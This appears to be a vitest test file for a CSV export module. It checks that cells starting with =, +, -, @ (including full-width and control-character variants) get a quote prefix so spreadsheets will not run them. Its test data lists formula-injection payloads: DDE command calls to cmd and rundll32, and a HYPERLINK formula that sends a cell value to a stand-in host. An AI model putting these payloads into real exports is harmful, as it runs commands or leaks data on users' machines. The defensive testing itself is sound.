import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { writeCsv } from '../../src/documents/csv.ts'
import type { Cell, Column, Sheet } from '../../src/documents/sheet.ts'

const COLUMNS: Column[] = [
  { title: '姓名', kind: 'text', width: 12 },
  { title: '电话', kind: 'text-id', width: 12 },
  { title: '日期', kind: 'date', width: 12 },
  { title: '份数', kind: 'whole', width: 8 },
  { title: '补贴', kind: 'money', width: 10, sum: true },
]
const csvOf = (sheet: Sheet): Promise<string> => text(Readable.from(writeCsv(sheet)))
const aSheet = (rows: Cell[][]): Sheet => ({ name: '明细', columns: COLUMNS, rows, total: '合计' })

/** What a program reads out of a field that held this text. */
async function readBack(text: string): Promise<unknown> {
  const csv = await csvOf({ name: 's', columns: [{ title: 't', kind: 'text', width: 9 }], rows: [[text]] })
  return parse(csv, { bom: true, relax_column_count: false })[1]?.[0]
}

test('a mark for Excel, a header, a line for each row, numbers as numbers, and no totals', async () => {
  const csv = await csvOf(
    aSheet([
      ['王, "二"', '+8613800138000', '2026-11-24', -3, -150],
      [null, '', undefined, 0, 0],
    ]),
  )
  expect(csv).toBe(`\ufeff姓名,电话,日期,份数,补贴\r\n"王, ""二""",'+8613800138000,2026-11-24,-3,-1.50\r\n,,,0,0.00\r\n`)
})

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u00a0+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"点")',
  '@rundll32 x,y',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1"; =2+2',
])('%j cannot run in a spreadsheet, and loses nothing', async (payload) => {
  expect(await readBack(payload)).toBe(`'${payload}`)
})

test.each([
  ['\0=1+1', "'=1+1"],
  ['\x07\x1b@x', "'@x"],
  ['\r\n=1+1', "'\n=1+1"],
  ['\r=1+1', "'\n=1+1"],
])('%j cannot hide behind a control character', async (payload, shown) => {
  expect(await readBack(payload)).toBe(shown)
})

test.each(['王-二', '3+2 床', 'a@b.cn', '1=1', '王；二', "O'Neil", '甲\n乙', ' 甲 ', '"'])('%j is left as it is', async (text) => {
  expect(await readBack(text)).toBe(text)
})

test('a header cannot carry a formula either', async () => {
  expect(await csvOf({ name: 's', columns: [{ title: '=1+1', kind: 'text', width: 9 }], rows: [] })).toBe("\ufeff'=1+1\r\n")
})

test.each<[string, Cell[]]>([
  ['half a fen', ['甲', '1', '2026-01-01', 1, 0.5]],
  ['a phone as a number', ['甲', 13800138000, '2026-01-01', 1, 1]],
  ['a row too long', ['甲', '1', '2026-01-01', 1, 1, 1]],
])('%s is refused', async (_, row) => {
  await expect(csvOf(aSheet([row]))).rejects.toThrow(RangeError)
})
